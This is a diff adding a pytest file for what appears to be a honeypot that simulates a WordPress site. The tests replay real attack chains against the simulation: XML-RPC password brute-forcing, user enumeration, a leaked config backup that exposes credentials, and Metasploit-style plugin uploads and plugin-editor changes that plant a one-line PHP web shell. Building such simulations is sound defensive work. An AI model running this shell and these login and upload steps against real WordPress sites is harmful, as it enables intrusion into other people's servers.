@@ -1,0 +1,191 @@
+"""WordPress: conversations with it, and the sequences of public tools up to what they came for."""
+
+from __future__ import annotations
+
+import base64
+import io
+import re
+import zipfile
+from urllib.parse import urlencode
+
+import pytest
+
+from mirage.base.events import LoginAttempted
+from mirage.gateway.http.sites.wordpress.accounts import WEAK
+from mirage.world import accounts
+from mirage.world.host import Host
+from tests.unit.gateway.http.sites.conftest import Answer, Machine, begin
+
+BLOG = "http://web.example.com"
+SHELL = b"<?php system($_GET['c']); ?>"
+
+
+@pytest.fixture
+async def blog(host: Host) -> Machine:
+    return begin(host, "wordpress")
+
+
+def _form(**values: str) -> bytes:
+    return urlencode(values).encode()
+
+
+async def _guessed(blog: Machine) -> str:
+    """The administrator's password, found as those find it who try the usual ones over xmlrpc.php."""
+    for word in WEAK:
+        if b"<fault>" not in (await _call(blog, "wp.getUsersBlogs", "admin", word)).body:
+            return word
+    raise AssertionError
+
+
+async def _call(blog: Machine, method: str, *values: str) -> Answer:
+    params = "".join(f"<param><value><string>{value}</string></value></param>" for value in values)
+    body = f'<?xml version="1.0"?><methodCall><methodName>{method}</methodName><params>{params}</params></methodCall>'
+    return await blog.ask("POST", "/xmlrpc.php", body.encode(), {"Content-Type": "text/xml"})
+
+
+async def _entered(blog: Machine) -> None:
+    answer = await blog.ask("POST", "/wp-login.php", _form(log="admin", pwd=await _guessed(blog), redirect_to=f"{BLOG}/there"))
+    assert (answer.status, answer.field("Location")) == (302, f"{BLOG}/there")
+    assert any(name.startswith("wordpress_logged_in_") for name in blog.cookies)
+
+
+def _archive(**files: bytes) -> bytes:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as archive:
+        for name, data in files.items():
+            archive.writestr(name.replace("__", "/") + ".php", data)
+    return packed.getvalue()
+
+
+def _nonce(answer: Answer, name: str = "_wpnonce") -> str:
+    found = re.search(rf'name="{name}" value="([0-9a-f]+)"', answer.body.decode())
+    assert found is not None
+    return found[1]
+
+
+def _upload(data: bytes, **values: str) -> tuple[bytes, dict[str, str]]:
+    parts = [f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode() for name, value in values.items()]
+    head = b'--x\r\nContent-Disposition: form-data; name="pluginzip"; filename="evil.zip"\r\nContent-Type: application/octet-stream\r\n\r\n'
+    return b"".join(parts) + head + data + b"\r\n--x--\r\n", {"Content-Type": "multipart/form-data; boundary=x"}
+
+
+async def test_metasploit_s_wp_admin_shell_upload_gets_its_shell(blog: Machine) -> None:
+    """exploit/unix/webapp/wp_admin_shell_upload: detect, log in, nonce, upload a plugin, ask for the payload."""
+    assert b"/wp-json/" in (await blog.ask("GET", "/")).head
+    await _entered(blog)
+    form = await blog.ask("GET", "/wp-admin/plugin-install.php?tab=upload")
+    plugin = b"<?php\n/**\n * Plugin Name: abcdefghij\n * Version: 1.2.3\n * Author: klm\n */\n?>"
+    archive = _archive(abcdefghij__abcdefghij=plugin, abcdefghij__payload=SHELL)
+    body, fields = _upload(archive, _wpnonce=_nonce(form), _wp_http_referer="/wp-admin/plugin-install.php?tab=upload")
+    installed = await blog.ask("POST", "/wp-admin/update.php?action=upload-plugin", body, fields)
+    assert (installed.status, b"plugin=abcdefghij%2Fabcdefghij.php" in installed.body) == (200, True)
+    shell = await blog.ask("GET", "/wp-content/plugins/abcdefghij/payload.php?c=id")
+    assert (shell.status, shell.body) == (200, b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")
+    assert blog.read("/usr/share/wordpress/wp-content/plugins/abcdefghij/payload.php") == SHELL
+    listed = await blog.ask("GET", "/wp-admin/plugins.php")
+    assert b"abcdefghij/abcdefghij.php" in listed.body
+
+
+async def test_xmlrpc_is_guessed_at_in_bulk_as_its_tools_do(blog: Machine) -> None:
+    """auxiliary/scanner/http/wordpress_xmlrpc_login, and the multicall of xmlrpc-bruteforcer: all after the first failure fail."""
+    assert (await blog.ask("GET", "/xmlrpc.php")).status == 405
+    right = await _guessed(blog)
+    call = "".join(
+        "<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name>"
+        f"<value><array><data><value>admin</value><value>{word}</value></data></array></value></member></struct></value>"
+        for word in (right, "wrong", right)
+    )
+    text = f"<methodCall><methodName>system.multicall</methodName><params><param><value><array><data>{call}</data></array></value></param></params></methodCall>"
+    answer = await blog.ask("POST", "/xmlrpc.php", text.encode(), {"Content-Type": "text/xml"})
+    parts = re.findall(r"<value><array><data>\n  <value><string>http|faultCode", answer.body.decode())
+    assert [part == "faultCode" for part in parts] == [False, True, True]
+    tried = [event.accepted for event in blog.events if isinstance(event, LoginAttempted)]
+    assert tried[-2:] == [True, False]
+
+
+async def test_a_plugin_s_file_is_edited_and_then_run(blog: Machine) -> None:
+    """What wordpress_edit_plugin of Metasploit's mixin does, and hands in the editor."""
+    await _entered(blog)
+    nonce = _nonce(await blog.ask("GET", "/wp-admin/plugin-install.php?tab=upload"))
+    body, fields = _upload(_archive(own__own=b"<?php\n/* Plugin Name: own */\n"), _wpnonce=nonce)
+    await blog.ask("POST", "/wp-admin/update.php?action=upload-plugin", body, fields)
+    page = await blog.ask("GET", "/wp-admin/plugin-editor.php?file=own/own.php&plugin=own/own.php")
+    assert b"/* Plugin Name: own */" in page.body
+    edited = await blog.ask(
+        "POST", "/wp-admin/plugin-editor.php",
+        _form(action="update", nonce=_nonce(page, "nonce"), file="own/own.php", plugin="own/own.php", newcontent=SHELL.decode()),
+    )  # fmt: skip
+    assert edited.field("Location") == f"{BLOG}/wp-admin/plugin-editor.php?a=1&plugin=own/own.php&file=own/own.php"
+    assert b"it is written" in (await blog.ask("GET", edited.field("Location").removeprefix(BLOG))).body
+    assert (await blog.ask("GET", "/wp-content/plugins/own/own.php?c=whoami")).body == b"www-data\n"
+
+
+async def test_a_nonce_that_was_never_given_out_is_too_old(blog: Machine) -> None:
+    await _entered(blog)
+    body, fields = _upload(_archive(own__own=b"<?php\n/* Plugin Name: own */\n"), _wpnonce="0123456789")
+    assert (await blog.ask("POST", "/wp-admin/update.php?action=upload-plugin", body, fields)).status == 403
+
+
+async def test_who_has_no_cookie_is_sent_to_the_door(blog: Machine) -> None:
+    answer = await blog.ask("GET", "/wp-admin/plugins.php?a=b")
+    where = f"{BLOG}/wp-login.php?redirect_to=http%3A%2F%2Fweb.example.com%2Fwp-admin%2Fplugins.php%3Fa%3Db&reauth=1"
+    assert (answer.status, answer.field("Location")) == (302, where)
+
+
+async def test_the_login_form_says_what_is_wrong(blog: Machine) -> None:
+    wrong = await blog.ask("POST", "/wp-login.php", _form(log="admin", pwd="nothing"))
+    assert b"not the word of <strong>admin</strong>" in wrong.body
+    unknown = await blog.ask("POST", "/wp-login.php", _form(log="<bob>", pwd="nothing"))
+    assert b"nobody is &lt;bob&gt;" in unknown.body
+
+
+async def test_people_are_counted_by_number_and_over_rest(blog: Machine) -> None:
+    """wpscan's and auxiliary/scanner/http/wordpress_login_enum's ways to the names."""
+    assert (await blog.ask("GET", "/?author=1")).field("Location") == f"{BLOG}/author/admin/"
+    assert (await blog.ask("GET", "/?author=2")).status == 404
+    users = (await blog.ask("GET", "/wp-json/wp/v2/users")).json
+    assert users == [{"id": 1, "slug": "admin", "link": f"{BLOG}/author/admin/"}]
+    assert (await blog.ask("GET", "/?rest_route=/wp/v2/users")).json == users
+
+
+async def test_a_picture_is_kept_and_served_and_a_script_is_not(blog: Machine) -> None:
+    word = await _guessed(blog)
+    for name, is_kept in (("a.png", True), ("a.php", False)):
+        bits = base64.b64encode(b"\x89PNG data").decode()
+        struct = f"<struct><member><name>name</name><value><string>{name}</string></value></member><member><name>bits</name><value><base64>{bits}</base64></value></member></struct>"
+        params = "".join(f"<param><value>{value}</value></param>" for value in ("1", "admin", word, struct))
+        text = f"<methodCall><methodName>wp.uploadFile</methodName><params>{params}</params></methodCall>"
+        answer = await blog.ask("POST", "/xmlrpc.php", text.encode(), {"Content-Type": "text/xml"})
+        found = re.search(r"(/wp-content/uploads/\S+\.png)<", answer.body.decode())
+        assert (found is not None) == is_kept
+        if found is not None:
+            assert (await blog.ask("GET", found[1])).body == b"\x89PNG data"
+    basic = {
+        "Authorization": "Basic " + base64.b64encode(f"admin:{word}".encode()).decode(),
+        "Content-Disposition": "attachment; filename=b.txt",
+    }
+    made = await blog.ask("POST", "/wp-json/wp/v2/media", b"words", {**basic, "Content-Type": "text/plain"})
+    assert (made.status, made.json["mime_type"]) == (201, "text/plain")
+    assert (await blog.ask("POST", "/wp-json/wp/v2/media", b"words", {"Content-Type": "text/plain"})).json == {
+        "code": "rest_cannot_create"
+    }
+
+
+async def test_the_copy_of_the_configuration_opens_ssh(blog: Machine) -> None:
+    leaked = (await blog.ask("GET", "/wp-config.php.bak")).body.decode()
+    user, password = re.findall(r"'FTP_(?:USER|PASS)', '([^']+)'", leaked)
+    assert f"\n{user}:".encode() in blog.read("/etc/passwd")
+    assert accounts.verify(blog.host.view(blog.layer), user, password.encode()) is True
+
+
+async def test_no_archive_leads_out_of_the_plugins_folder(blog: Machine) -> None:
+    await _entered(blog)
+    nonce = _nonce(await blog.ask("GET", "/wp-admin/plugin-install.php?tab=upload"))
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as pack:
+        pack.writestr("p/p.php", "<?php\n/* Plugin Name: p */")
+        pack.writestr("p/../../../../../../../tmp/out.php", "x")
+    body, fields = _upload(archive.getvalue(), _wpnonce=nonce)
+    await blog.ask("POST", "/wp-admin/update.php?action=upload-plugin", body, fields)
+    with pytest.raises(FileNotFoundError):
+        blog.read("/tmp/out.php")
